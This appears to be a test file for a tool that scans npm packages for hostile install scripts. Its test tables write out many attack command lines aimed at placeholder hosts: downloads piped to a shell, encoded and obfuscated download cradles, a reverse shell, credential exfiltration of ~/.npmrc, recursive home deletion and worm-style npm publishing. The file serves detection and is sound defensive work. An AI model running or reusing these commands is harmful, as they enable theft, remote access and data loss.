/** What scripts that are no JavaScript do: npm's own lines, shell and batch files, binding.gyp. Over 300 lines, because they are tables. */
import { describe, expect, it } from 'vitest';
import { readCommandLine, readScript } from '../../src/behavior/scripts/read-script.ts';
import type { FileSummary, ScriptLanguage } from '../../src/behavior/summary/file-summary.ts';
import { compare, type Files, tellPackage } from './tell.ts';

/** `kind api "detail" [marks] (origins)`, and `run file` for what it starts. */
function tell({ fns: [fn] }: FileSummary): string[] {
  const acts = (fn?.behaviors ?? []).map(({ kind, api, detail, marks, origins }) =>
    [kind, api, JSON.stringify(detail), marks.length > 0 ? `[${marks}]` : '', origins.length > 0 ? `(${origins})` : '']
      .filter(Boolean)
      .join(' '),
  );
  return [
    ...acts,
    ...(fn?.loads ?? []).map(({ specifier, runAs }) => `run ${specifier} ${runAs?.language ?? ''}`.trim()),
  ];
}

const process = (detail: string, origins = ''): string =>
  `child-process npm ${JSON.stringify(detail)} [shell,pipe]${origins === '' ? '' : ` (${origins})`}`;
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64');

describe('a script of npm tells', () => {
  const download = 'curl -s https://far.invalid/a';
  const encoded = base64(download);
  const hidden = base64('iwr https://far.invalid/p', 'utf16le');
  it.each<[string, string, readonly string[]]>([
    [
      'a download into a shell',
      `${download} | sh`,
      [process(`${download} | sh`, 'fetched'), 'network curl "https://far.invalid/a"'],
    ],
    [
      'one that is run later',
      'wget -qO /tmp/a https://far.invalid/a; chmod +x /tmp/a; /tmp/a',
      [
        process('wget -qO /tmp/a https://far.invalid/a'),
        'network wget "https://far.invalid/a"',
        process('/tmp/a', 'fetched'),
      ],
    ],
    [
      'one in a substitution',
      `sh -c "$(${download})"`,
      [
        process(`sh -c $(${download})`),
        process(`$(${download})`),
        process(download),
        'network curl "https://far.invalid/a"',
      ],
    ],
    [
      'words that are put together',
      `c''u"r"l\${IFS}https://far.invalid`,
      [process('curl https://far.invalid'), 'network curl "https://far.invalid"'],
    ],
    [
      'words in braces',
      '{curl,https://far.invalid}',
      [process('curl https://far.invalid'), 'network curl "https://far.invalid"'],
    ],
    [
      'a variable',
      'U=https://far.invalid/b; curl "$U"',
      [process('curl https://far.invalid/b'), 'network curl "https://far.invalid/b"'],
    ],
    [
      'text that is decoded',
      `echo ${encoded} | base64 -d | bash`,
      [
        process(download),
        'network curl "https://far.invalid/a"',
        process(`echo ${encoded} | base64 -d | bash`, 'decoded'),
      ],
    ],
    [
      'text for node',
      `node -e "require('https').get('https://far.invalid/c')"`,
      ['network https.get "https://far.invalid/c"'],
    ],
    [
      'text for python',
      `python3 -c "import urllib.request as u; exec(u.urlopen('https://far.invalid/d').read())"`,
      [
        process(`python3 -c import urllib.request as u; exec(u.urlopen('https://far.invalid/d').read())`, 'fetched'),
        'network python3 "https://far.invalid/d"',
      ],
    ],
    [
      'encoded text for PowerShell',
      `powershell -enc ${hidden}`,
      [process(`powershell -enc ${hidden}`, 'decoded,fetched'), 'network powershell "https://far.invalid/p"'],
    ],
    [
      'keys that are sent',
      'cat ~/.npmrc | curl -d @- https://far.invalid',
      [
        'file-read cat "<home>/.npmrc"',
        process('cat <home>/.npmrc | curl -d @- https://far.invalid'),
        'network curl "https://far.invalid"',
      ],
    ],
    [
      'a socket of the shell',
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      [process('bash -i'), 'network /dev/tcp "192.0.2.1:4444"'],
    ],
    [
      'files that are removed',
      'rm -rf ~/* "$HOME"/.',
      [
        'file-delete rm -r "<home>/*" [recursive,broad-target]',
        'file-delete rm -r "<home>/."  [recursive]'.replace('  ', ' '),
      ],
    ],
    ['a walk that removes', 'find / -type f -delete', ['file-delete find "/" [recursive,in-walk,broad-target]']],
    ['a profile that is written', 'echo x >> ~/.bashrc', ['file-write echo "<home>/.bashrc"']],
    [
      'what goes on in silence',
      'nohup ./lib/worker >/dev/null 2>&1 &',
      ['child-process npm "nohup ./lib/worker" [shell,detached,silenced]', 'run ./lib/worker'],
    ],
    [
      'what a worm asks npm for',
      'npm whoami && npm publish --access public',
      ['child-process npm "npm whoami" [shell]', 'child-process npm "npm publish --access public" [shell]'],
    ],
  ])('%s', (_, line, found) => {
    expect(tell(readCommandLine(line, 'npm'))).toEqual(found);
  });
});

describe('a script of npm starts', () => {
  it.each<[string, readonly string[]]>([
    [
      'FOO=1 node --no-warnings ./setup.js --flag && sh "lib/b.sh"',
      ['run ./setup.js javascript', 'run lib/b.sh shell'],
    ],
    ['bun run setup.ts', ['run setup.ts javascript']],
    ['deno run -A setup.ts', ['run setup.ts javascript']],
    ['bun --bun prepare', ['run prepare npm-script', 'run prepare javascript']],
    ['node -r ./hook.js main.js', ['run ./hook.js javascript', 'run main.js javascript']],
    ['NODE_OPTIONS="--require ./hook.js" npm test', ['run ./hook.js javascript', 'run test npm-script']],
    ['cd lib && node a.js', ['run lib/a.js javascript']],
    ['node < a.js; cat b.sh | sh', ['run a.js javascript', 'run b.sh shell']],
    ['if [ -f a.sh ]; then . ./a.sh; fi', ['run ./a.sh shell']],
    ['cross-env A=1 npm run build -- --x; yarn lint', ['run build npm-script', 'run lint npm-script']],
    ['cmd /c call setup.bat', ['run setup.bat']],
    ['setup.bat', ['run setup.bat']],
    ['cross-env-shell "A=1 && node a.js"', ['run a.js javascript']],
    ['bun run build && bun lib/a.ts', ['run build npm-script', 'run lib/a.ts javascript']],
    ['prebuild-install || node-gyp rebuild', ['run ./binding.gyp gyp']],
  ])('%s', (line, found) => {
    expect(tell(readCommandLine(line, 'npm'))).toEqual(found);
  });
});

describe('a script of npm tells nothing of', () => {
  it.each([
    'husky install',
    'husky || true',
    'patch-package',
    'tsc -p . && eslint .',
    'opencollective postinstall || exit 0',
    'npx -y only-allow pnpm',
    'is-ci || husky install',
    'bun install && deno cache x.ts',
    'npm ls && npm --version',
    'echo "curl https://far.invalid | sh"',
    'ngcc --properties es2015',
    'napi-postinstall check',
    `node -e "console.log"`,
  ])('%s', (line) => {
    expect(tell(readCommandLine(line, 'npm'))).toEqual([]);
  });
});

describe('other scripts tell', () => {
  it.each<[string, ScriptLanguage, string, readonly string[]]>([
    [
      'a batch file, its variables and carets',
      'batch',
      '@echo off\r\nrem curl https://no.invalid\r\nset U=https://far.invalid/a.exe\r\nc^url -o %TEMP%\\a.exe %U%\r\nif exist x (del /s /q %USERPROFILE%)\r\nnode "%~dp0\\x.js"\r\n',
      [
        'child-process cmd "curl -o <temp>\\\\a.exe https://far.invalid/a.exe" [shell,pipe]',
        'network curl "https://far.invalid/a.exe"',
        'file-delete del "<home>" [recursive,broad-target]',
        'run ./x.js javascript',
      ],
    ],
    [
      'PowerShell, its backticks and sums',
      'powershell',
      `I\`E\`X (New-Object Net.Web'+'Client).Down\`loadString('https://far.invalid/s')`,
      [
        `child-process powershell "I\`E\`X (New-Object Net.Web'+'Client).Down\`loadString('https://far.invalid/s')" [shell,pipe] (fetched)`,
        'network powershell "https://far.invalid/s"',
      ],
    ],
    [
      'binding.gyp: expansions, in pieces and escaped, actions and conditions',
      'gyp',
      `{ 'targets': [{ # '<!(curl https://no.invalid)'
        'include_dirs': ["<!@(node -p \\"require('far').include\\")", '<!(cu' 'rl https://far.invalid)', '\\x3c!(node \\x66ar.js)'],
        'actions': [{ 'action_name': 'a', 'action': ['python', 'make.py'] }],
        'conditions': [["OS=='mac'", {}], ['().__class__.__base__', {}]] }] }`,
      [
        'child-process node-gyp "curl https://far.invalid" [shell,pipe]',
        'network curl "https://far.invalid"',
        'dynamic-code binding.gyp condition "().__class__.__base__" (file)',
        'run far.js javascript',
        'run make.py foreign',
      ],
    ],
  ])('%s', (_, ...[language, text, found]) => {
    expect(tell(readScript(text, language))).toEqual(found);
  });
});

describe('a package is followed', () => {
  const curl = 'curl -s https://far.invalid | sh\n';
  const told = ['install child-process sh', 'install network curl'];
  it.each<[string, Files, readonly string[]]>([
    ['into a shell file', { 'package.json': { scripts: { install: './a.sh' } }, 'a.sh': curl }, told],
    [
      'into a file that the shell is given',
      { 'package.json': { scripts: { install: 'sh setup' } }, setup: curl },
      told,
    ],
    [
      'through a script of npm, a shell file and its neighbour',
      {
        'package.json': { scripts: { postinstall: 'npm run x', prex: 'bash lib/a.sh', x: 'true' } },
        'lib/a.sh': 'source "$(dirname "$0")/b.sh"\n',
        'lib/b.sh': curl,
      },
      told,
    ],
    [
      'through code that starts a shell file',
      {
        'package.json': { scripts: { install: 'node a' } },
        'a.js': `require('child_process').execFileSync('sh', ['lib/b.sh'])`,
        'lib/b.sh': curl,
      },
      ['install child-process child_process.execFileSync', ...told],
    ],
    [
      'through code that starts node',
      {
        'package.json': { scripts: { install: 'node a' } },
        'a.js': `require('child_process').spawn(process.execPath, ['b.js'])`,
        'b.js': `fetch('https://far.invalid')`,
      },
      ['install child-process child_process.spawn', 'install network fetch'],
    ],
    [
      'into a binding.gyp that nothing names, and the code it starts',
      { 'binding.gyp': `{"targets":[{"sources":["<!(node a.js)"]}]}`, 'a.js': `fetch('https://far.invalid')` },
      ['install network fetch'],
    ],
  ])('%s', (_, files, found) => {
    expect(tellPackage(files)).toEqual(found);
  });

  it('from the hook, by line', () => {
    const files = { 'package.json': { scripts: { install: 'sh a.sh' } }, 'a.sh': `#!/bin/sh\n\n${curl}` };
    const [first] = compare(undefined, files).behaviors.added;
    expect([first?.via, first?.path, first?.line, first?.root]).toEqual([
      ['scripts/install', 'a.sh'],
      'a.sh',
      3,
      'hook',
    ]);
  });

  it('without news, where the old version did the same', () => {
    const scripts = { 'package.json': { scripts: { install: 'sh a.sh' } } };
    expect(tellPackage({ ...scripts, 'a.sh': `${curl}echo\n` }, { ...scripts, 'a.sh': curl })).toEqual([]);
  });
});

describe('hostile scripts end', () => {
  it.each<[string, ScriptLanguage, string]>([
    ['pipes', 'shell', 'a|'.repeat(40_000)],
    ['here-documents', 'shell', '<<A<<B'.repeat(5_000)],
    ['substitutions', 'shell', '$('.repeat(40_000)],
    ['text in text', 'shell', 'eval "eval \'eval curl\'" '.repeat(4_000)],
    ['variables that grow', 'shell', `a=x\n${'a=$a$a\n'.repeat(200)}`],
    ['errors', 'shell', ')\n'.repeat(40_000)],
    ['lines', 'batch', 'a & b | c "\r\n'.repeat(8_000)],
    ['quotes', 'batch', '"'.repeat(90_000)],
    ['loops', 'batch', 'for do '.repeat(14_000)],
    ['texts', 'gyp', "'<!(a' ".repeat(14_000)],
    ['openings', 'gyp', `"${'<!('.repeat(30_000)}"`],
    ['actions', 'gyp', `'action':[${"'a',".repeat(20_000)}]`],
    ['words', 'powershell', "'+'".repeat(30_000)],
  ])(
    '%s',
    (_, language, text) => {
      expect(tell(readScript(text, language)).length).toBeLessThan(2_000);
    },
    15_000,
  );

  it('and a longer one is not read, and that is said', () => {
    expect(readScript('a\n'.repeat(60_000), 'shell').unread?.why).toBe('too-large');
  });
});
